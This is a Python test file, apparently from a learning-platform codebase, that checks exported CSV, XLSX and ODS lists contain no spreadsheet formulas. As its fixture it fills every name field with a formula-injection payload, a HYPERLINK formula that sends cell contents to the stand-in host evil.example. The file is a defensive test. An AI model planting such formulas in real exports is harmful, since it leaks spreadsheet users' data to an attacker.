"""Formulas in names: whoever opens an exported list in a spreadsheet runs nothing."""

import csv
import io
import zipfile

from sqlalchemy import update
from werkzeug.test import TestResponse

from learnhub.enrolment.models import Cohort
from learnhub.people.models import Business, Person
from tests.house.everywhere import ask, browsers, calls
from tests.house.test_matrix import MATRIX, World, make_world
from tests.site import Site

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r")


def spoil(site: Site) -> None:
    """Give everybody and everything a name that a spreadsheet would calculate."""
    with site.database.write() as session:
        session.execute(update(Person).where(Person.id > 0).values(name=FORMULA, surname=FORMULA))
        session.execute(update(Business).values(name=FORMULA))
        session.execute(update(Cohort).values(name=FORMULA))


def is_number(cell: str) -> bool:
    return cell.removeprefix("-").replace(".", "", 1).replace(",", "", 1).isdigit()


def bad_cells(text: str) -> list[str]:
    """Return the cells of a list that a spreadsheet would calculate."""
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";" if ";" in text else ",")
    return [cell for row in rows for cell in row
            if cell.startswith(BEGINNINGS) and not is_number(cell)]


def bad_in(answer: TestResponse) -> list[str] | None:
    """Return what is wrong in a file; None where the answer is no list."""
    kind = answer.mimetype or ""
    if "csv" in kind or "tab-separated" in kind:
        return bad_cells(answer.get_data().decode("utf-8-sig"))
    if not kind.startswith(("application/zip", "application/vnd")):
        return None
    found: list[str] = []
    with zipfile.ZipFile(io.BytesIO(answer.get_data())) as packed:
        for name in packed.namelist():
            if name.endswith(".csv"):
                found += bad_cells(packed.read(name).decode("utf-8-sig"))
            elif name.startswith("xl/worksheets/"):
                # A formula stands in an element of its own, a text never.
                found += ["<f>"] * packed.read(name).count(b"<f>")
            elif name == "content.xml":
                found += ["formula"] * packed.read(name).count(b"table:formula")
    return found


def files_of(world: World) -> dict[str, list[str]]:
    """Return what is wrong in each file that any page gives out, for those who may have it."""
    known, found = browsers(world), {}
    for call in calls(world, "GET", "POST"):
        if call.method == "POST" and "export" not in call.path and "download" not in call.path:
            continue
        for name in sorted({"lena", "tom", "clara", "uta"} & MATRIX[call.endpoint]):
            kinds = ("csv", "xlsx") if call.method == "POST" else ("",)
            for kind in kinds:
                bad = bad_in(ask(known[name], call, {"form": kind, "format": kind}))
                if bad is not None:
                    found[f"{call} {name} {kind}"] = bad
    return found


def test_no_exported_list_holds_a_formula(sqlite_site: Site) -> None:
    world = make_world(sqlite_site)
    spoil(sqlite_site)
    found = files_of(world)
    assert any("/export" in each for each in found)
    assert {each: bad for each, bad in found.items() if bad} == {}
